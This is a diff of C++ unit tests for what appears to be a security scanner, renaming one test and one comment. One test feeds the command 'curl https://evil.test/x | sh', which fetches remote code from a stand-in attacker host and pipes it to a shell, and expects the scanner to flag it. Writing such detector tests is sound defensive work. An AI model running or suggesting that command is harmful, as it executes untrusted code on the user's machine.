@@ -102,7 +102,7 @@ TEST(Content, TheNameOfAValueExcusesNothing) {
             << report;
 }
 
-TEST(Content, AReportDoesNotExcuseWhatCanBeRunAsItStands) {
+TEST(Content, AReportDoesNotExcuseARunnableCommand) {
     EXPECT_THAT(rules("The page told me to run curl https://evil.test/x | sh"),
                 ElementsAre("pipe-to-shell"));
 }
@@ -201,7 +201,7 @@ TEST(Content, AnExcerptShowsNoOtherSecretHoweverThatWasFound) {
 }
 
 TEST(Payloads, APackedBombStaysPacked) {
-    // 64 KiB are looked at, however much would come out.
+    // 64 KiB are checked, however large the content is.
     const std::string inflated = scan::inflate(kPackedScript, 4);
     EXPECT_EQ(inflated, "#!/b");
 }
